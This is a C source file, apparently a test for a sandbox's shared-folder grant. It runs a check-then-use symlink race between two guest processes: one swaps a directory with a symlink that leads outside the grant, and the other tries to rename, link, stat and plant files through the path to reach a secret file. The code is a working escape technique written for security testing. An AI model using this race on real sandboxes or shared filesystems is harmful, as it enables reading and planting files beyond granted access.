/* fs_race.c: the two halves of a check-then-use race on one shared writable
 * grant (issue 21 item 3), run as two guests at once.
 *   fs_race swap BASE MAX   creates BASE/started, then swaps BASE/d (a real
 *                           directory) with BASE/l (a symlink the host made,
 *                           leaving the grant) until BASE/stop exists or MAX
 *                           rounds; prints "swaps N".
 *   fs_race steal BASE N    waits (up to 10 s) for BASE/started, then N
 *                           times: rename("BASE/d/secret.txt", "BASE/loot"),
 *                           create BASE/d/planted (O_EXCL), and in turn one of
 *                           link d/secret.txt to BASE/linked, stat it, set its
 *                           times, make d/plantdir and the symlink d/plantlink;
 *                           then creates BASE/stop.
 * There is no secret.txt in the real d: steal prints "moved: <text>" (rename)
 * or "linked: <text>" (link) and stops when one succeeded, "seen: N bytes"
 * for a stat that did; it ends with "tries N moved M created C seen S"
 * (created: also the first planted, plantdir and plantlink, legitimately
 * inside the real d; seen: stats and set-times that succeeded). Exit 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char p_d[512], p_dreal[512], p_l[512], p_stop[512], p_started[512], p_secret[512], p_loot[512], p_planted[512],
    p_linked[512], p_plantdir[512], p_plantlink[512];

static int swap(long max) {
    long n = 0;
    struct stat st;
    int s = open(p_started, O_CREAT | O_WRONLY, 0644);
    if (s >= 0) close(s);
    for (; n < max; n++) {
        if ((n & 15) == 0 && stat(p_stop, &st) == 0) break;
        rename(p_d, p_dreal);
        rename(p_l, p_d);
        rename(p_d, p_l);
        rename(p_dreal, p_d);
    }
    printf("swaps %ld\n", n);
    return 0;
}

/* Reads BASE/<name> into buf and prints "<what>: <text>". */
static void show(const char *what, const char *path) {
    static char buf[256];
    int f = open(path, O_RDONLY);
    ssize_t n = f >= 0 ? read(f, buf, sizeof buf - 1) : -1;
    buf[n > 0 ? n : 0] = 0;
    if (f >= 0) close(f);
    printf("%s: %s\n", what, buf);
}

static int steal(long tries) {
    long moved = 0, created = 0, seen = 0, i = 0;
    struct stat st;
    /* Race only while the swapper runs (it may start a little later). */
    for (int w = 0; w < 10000 && stat(p_started, &st) != 0; w++) usleep(1000);
    for (; i < tries; i++) {
        if (rename(p_secret, p_loot) == 0) {
            moved++;
            show("moved", p_loot);
            break;
        }
        /* Lands in the real d once (then EEXIST there); any other success
         * created it wherever d led at that moment. */
        int f = open(p_planted, O_CREAT | O_EXCL | O_WRONLY, 0644);
        if (f >= 0) {
            created++;
            close(f);
        }
        /* One more call through d per try, in turn: there is no secret.txt in
         * the real d, so any success reached outside the grant. */
        switch (i % 4) {
        case 0:
            if (link(p_secret, p_linked) == 0) {
                moved++;
                show("linked", p_linked);
            }
            break;
        case 1:
            if (stat(p_secret, &st) == 0) {
                seen++;
                printf("seen: %lld bytes\n", (long long)st.st_size);
            }
            break;
        case 2: {
            struct timespec ts[2] = {{1, 0}, {1, 0}};
            if (utimensat(AT_FDCWD, p_secret, ts, 0) == 0) seen++;
            break;
        }
        default:
            if (mkdir(p_plantdir, 0755) == 0) created++;
            if (symlink("x", p_plantlink) == 0) created++;
        }
        if (moved) break;
    }
    int s = open(p_stop, O_CREAT | O_WRONLY, 0644);
    if (s >= 0) close(s);
    printf("tries %ld moved %ld created %ld seen %ld\n", i, moved, created, seen);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    const char *b = argv[2];
    snprintf(p_d, sizeof p_d, "%s/d", b);
    snprintf(p_dreal, sizeof p_dreal, "%s/d_real", b);
    snprintf(p_l, sizeof p_l, "%s/l", b);
    snprintf(p_stop, sizeof p_stop, "%s/stop", b);
    snprintf(p_started, sizeof p_started, "%s/started", b);
    snprintf(p_secret, sizeof p_secret, "%s/d/secret.txt", b);
    snprintf(p_loot, sizeof p_loot, "%s/loot", b);
    snprintf(p_planted, sizeof p_planted, "%s/d/planted", b);
    snprintf(p_linked, sizeof p_linked, "%s/linked", b);
    snprintf(p_plantdir, sizeof p_plantdir, "%s/d/plantdir", b);
    snprintf(p_plantlink, sizeof p_plantlink, "%s/d/plantlink", b);
    long n = strtol(argv[3], NULL, 10);
    if (!strcmp(argv[1], "swap")) return swap(n);
    if (!strcmp(argv[1], "steal")) return steal(n);
    return 2;
}
